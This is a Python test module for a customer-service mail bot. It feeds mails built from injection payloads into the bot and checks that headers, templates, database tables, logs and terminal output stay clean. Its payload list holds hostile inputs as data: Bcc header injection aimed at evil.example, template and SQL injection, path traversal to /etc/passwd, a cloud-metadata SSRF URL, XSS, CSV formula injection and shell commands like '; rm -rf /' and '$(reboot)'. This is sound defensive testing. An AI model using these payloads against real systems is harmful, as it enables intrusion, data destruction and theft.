"""T14: text of a mail that wants to be something else: header, template, query, log line, terminal command, path.

What goes in are names, subjects, numbers and file names made of payloads; what comes out is looked at where it could
have become more than text: the letters' headers and words, the tables, the log, the terminal.
"""

import io
import json
import re
from contextlib import redirect_stderr
from email import message_from_bytes
from pathlib import Path
from random import Random

import structlog

from mailbot.cli.options import plain
from mailbot.logs import set_up_logs
from mailbot.store.tables import CaseRow, MailRow, OrderRow
from tests.campaigns.desk import SUPPORT, open_desk, text_of
from tests.campaigns.outcome import Outcome
from tests.journey.mails import an_invoice, an_order

JANE = "jane@example.org"
PAYLOADS = (
    "x\r\nBcc: victim@evil.example",
    "x\nBcc: victim@evil.example\n\nbody",
    "x\rBcc: victim@evil.example",
    "x\u2028Bcc: victim@evil.example",
    "x\u0085Bcc: victim@evil.example",
    "x%0d%0aBcc: victim@evil.example",
    "=?utf-8?q?x=0D=0ABcc:_victim@evil.example?=",
    "=?utf-8?b?eA0KQmNjOiB2aWN0aW1AZXZpbC5leGFtcGxl?=",
    "{{shop_name}}",
    "{{code}}",
    "{{proof_link}}",
    "{% include '/etc/passwd' %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "${7919*7907}",
    "#{7919*7907}",
    "%(shop)s %s %n",
    "{0.__globals__}",
    "'; DROP TABLE mails; --",
    "' OR '1'='1",
    '"; DELETE FROM cases WHERE "1"="1',
    "\\'; UPDATE orders SET captured_minor=0; --",
    "x'||(SELECT message_key FROM instance)||'",
    "\x1b[2J\x1b[1;1H",
    "\x1b]0;owned\x07",
    "\x1b]8;;http://evil.example\x07click\x1b]8;;\x07",
    "\x9b2J",
    "\x00truncated",
    "line one\n2026-03-10 [info] mail_decided outcome=approve_return",
    '","level":"info","event":"forged"',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "../../../../etc/passwd",
    "..\\..\\windows\\system32\\x.dll",
    "/etc/cron.d/evil",
    "file\x00.pdf.exe",
    "http://169.254.169.254/latest/meta-data/",
    "http://localhost:8080/cases/1",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "\u202eexe.fdp",
    "a" * 5_000,
    "(" * 500,
    "\ud83d\ude00\udcff",
    "$(reboot)",
    "`reboot`",
    "| mail victim@evil.example",
    "; rm -rf /",
)
_MAILS_AN_ORDER = 25
_FORBIDDEN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e]")
_KNOWN_FIELDS = {
    *("from", "to", "subject", "date", "message-id", "in-reply-to", "references", "auto-submitted", "mime-version"),
    *("x-auto-response-suppress", "x-mailbot-instance", "content-type"),
}


def _mail(chance: Random, number: int) -> bytes:
    one, two, three = (chance.choice(PAYLOADS) for _ in range(3))
    boundary, order = "cut", _order(number)
    file_name = three.replace('"', "").replace("\r", "").replace("\n", "")
    head = (
        f"Authentication-Results: mx.shop.example; dmarc=pass header.from=example.org\r\nFrom: {_name(two)}<{JANE}>\r\n"
        f"To: {SUPPORT}\r\nSubject: {_folded(one)}\r\nMessage-ID: <{number}.{_id(three)}@example.org>\r\n"
        f'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="{boundary}"\r\n\r\n--{boundary}\r\n\r\n'
        f"I changed my mind and want to cancel order {order}. {one} {two}\r\n{three}\r\n\r\n--{boundary}\r\n"
        f'Content-Type: text/plain\r\nContent-Disposition: attachment; filename="{file_name}"\r\n\r\n'
        f"{an_invoice(order)}\r\n"
        f"--{boundary}--\r\n"
    )
    return head.encode("utf-8", "surrogatepass" if number % 2 else "replace")


def _order(number: int) -> str:
    return f"AW-{10001 + number // _MAILS_AN_ORDER}"


def _name(text: str) -> str:
    return '"' + _folded(text).replace("\\", "").replace('"', "")[:150] + '" '


def _folded(text: str) -> str:
    return (
        text.replace("\r\n", "\r\n ").replace("\n", "\n ")
        if "Bcc" not in text
        else text.replace("\r", "").replace("\n", "")
    )


def _id(text: str) -> str:
    return re.sub(r"[^!-;=?-~]", "", text)[:60] or "x"


def run(seed: int, rounds: int, folder: Path) -> Outcome:
    """Send so many mails made of payloads, and look where their text came out."""
    chance, outcome = Random(seed), Outcome()
    heard = io.StringIO()
    with redirect_stderr(heard), open_desk(folder) as desk:
        set_up_logs(verbose=True)
        for number in range(rounds):
            if number % _MAILS_AN_ORDER == 0:
                desk.sells([an_order(desk.now, _order(number))])
            raw = _mail(chance, number)
            for envelope in desk.answers(raw):
                _look_at_letter(outcome, envelope.data, text_of(envelope), raw)
                outcome.expect(f"recipient {envelope.recipient}", holds=envelope.recipient == JANE)
            desk.forward(minutes=37)
            outcome.tried += 1
        outcome.expect("an order was changed", holds={row.captured_minor for row in desk.rows(OrderRow)} == {86_00})
        outcome.expect("mails are missing", holds=len(desk.rows(MailRow)) == rounds)
        for row in [*desk.rows(CaseRow)]:
            shown = plain(row.subject) + plain(row.customer)
            outcome.expect(f"the terminal is told {shown!r}", holds=not _FORBIDDEN.search(shown) and "\n" not in shown)
        broken = desk.broken()
        outcome.expect(f"broken: {broken}", holds=not broken)
    structlog.reset_defaults()
    for line in heard.getvalue().splitlines():
        form = _event(line)
        outcome.expect(f"the log was told {line[:200]!r}", holds=form is not None and not _FORBIDDEN.search(line))
    return outcome


def _look_at_letter(outcome: Outcome, data: bytes, text: str, raw: bytes) -> None:
    message = message_from_bytes(data)
    names = [name.lower() for name in message.keys()]  # noqa: SIM118 (a message's keys repeat, and iteration is none)
    outcome.expect(f"fields {names} after {raw!r}", holds=set(names) <= _KNOWN_FIELDS and len(names) == len(set(names)))
    outcome.expect(f"8-bit or control in {data[:300]!r}", holds=data.isascii() and b"\0" not in data)
    outcome.expect(f"control signs in a letter after {raw!r}", holds=not _FORBIDDEN.search(text.replace("\r", "")))
    outcome.expect(f"a template was run after {raw!r}", holds="root:" not in text and str(7919 * 7907) not in text)


def _event(line: str) -> dict[str, object] | None:
    try:
        form = json.loads(line)
    except ValueError:
        return None
    return form if isinstance(form, dict) and form.get("event") != "forged" else None
